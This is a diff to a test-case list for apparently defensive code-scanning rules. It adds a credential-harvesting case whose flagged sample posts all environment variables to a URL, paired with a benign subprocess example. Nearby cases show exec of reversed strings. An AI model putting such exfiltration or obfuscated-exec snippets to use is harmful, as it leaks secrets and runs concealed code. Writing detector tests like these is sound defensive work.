@@ -401,6 +401,14 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "    exec(node.text, locals())\n",
     ),
     (
+        credential_harvesting_rule,
+        "env.py",
+        "import os, requests\n\nrequests.post(URL, json={'env': dict(os.environ)})\n",
+        # the environment handed to a child process
+        "import os, subprocess\n\nkwargs = {'env': os.environ.copy(), 'shell': False}\n"
+        "subprocess.run(['python', '-V'], **kwargs)\n",
+    ),
+    (
         decode_and_execute_rule,
         "rev.py",
         "CODE = ')(niam'\nexec(CODE[::-1])\n",
